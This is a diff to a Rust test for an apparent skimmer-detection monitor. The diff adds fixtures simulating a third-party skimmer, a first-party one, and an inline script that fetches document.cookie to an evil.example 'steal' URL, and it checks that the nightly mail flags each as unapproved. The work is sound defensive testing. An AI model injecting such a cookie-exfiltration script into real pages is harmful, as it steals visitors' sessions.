@@ -296,8 +296,13 @@ const CHECKOUT: &str = r#"<!doctype html><html><head>
 <script src="https://cdn.payments.example/pay.js"></script>
 </head><body><p>{night}</p><script>window.cart = 1;</script></body></html>"#;
 
-/// The skimmer of the night it comes.
+/// The skimmers of the night they come: a third-party file, and an inline
+/// script and a first-party file, the kinds `--only-third-party` passes
+/// over.
 const SKIMMER: &str = r#"<script src="https://evil2.example/skim2.js"></script>"#;
+const INLINE_SKIMMER: &str =
+    r#"<script>fetch("https://evil.example/steal?"+document.cookie)</script>"#;
+const FIRST_PARTY_SKIMMER: &str = r#"<script src="/skimmer.js"></script>"#;
 
 #[test]
 fn watch_recipe_mails_changes_and_moves_the_baseline_only_after_a_good_scrape() {
@@ -393,11 +398,16 @@ fn watch_recipe_mails_changes_and_moves_the_baseline_only_after_a_good_scrape() 
         "the run of a night whose pages failed became the baseline"
     );
 
-    // Night 4: the server is back, and the checkout page has a skimmer:
-    // it is mailed (compared with night 2, the last good run), and
+    // Night 4: the server is back, and the checkout page has a third-party
+    // skimmer and an injected inline script, the cart page a first-party
+    // one: all are mailed (compared with night 2, the last good run), and
     // tonight's run is the baseline.
-    let skimmed = SKIMMER.to_owned();
+    let skimmed = format!("{SKIMMER}{INLINE_SKIMMER}");
     server.set_page("checkout", &checkout(4, &skimmed));
+    server.set_page(
+        "cart",
+        &format!("<script src=/js/cart.js></script>{FIRST_PARTY_SKIMMER}"),
+    );
     let (printed, mail) = night();
     assert_eq!(printed, "", "night 4 printed besides the mail");
     assert!(mail.starts_with(subject), "night 4 mail: {mail:?}");
@@ -407,11 +417,27 @@ fn watch_recipe_mails_changes_and_moves_the_baseline_only_after_a_good_scrape() 
         is_night(4, &skimmed),
         "the baseline did not move"
     );
-    let line = mail
-        .lines()
-        .find(|l| l.contains("https://evil2.example/skim2.js"))
-        .unwrap_or_else(|| panic!("the mail does not name the skimmer: {mail}"));
-    assert!(line.contains("unapproved"), "{line}\n{mail}");
+    let scripts = Table::read(&sandbox.file("last.csv"));
+    let inline: Vec<&str> = scripts
+        .rows_where("page_url", &checkout_url)
+        .into_iter()
+        .map(|row| scripts.get(row, "inline_sha256"))
+        .filter(|hash| !hash.is_empty())
+        .collect();
+    let [_, injected] = inline[..] else {
+        panic!("expected two inline scripts on the checkout page: {inline:?}");
+    };
+    for (what, needle) in [
+        ("the third-party skimmer", "https://evil2.example/skim2.js"),
+        ("the inline script", injected),
+        ("the first-party script", "/skimmer.js"),
+    ] {
+        let line = mail
+            .lines()
+            .find(|l| l.contains(needle))
+            .unwrap_or_else(|| panic!("the mail does not name {what} ({needle}): {mail}"));
+        assert!(line.contains("unapproved"), "{what}: {line}\n{mail}");
+    }
     assert!(!mail.contains("unknown"), "night 4 mail: {mail}");
 
     // Night 5: nothing changed since night 4: silent, and the baseline
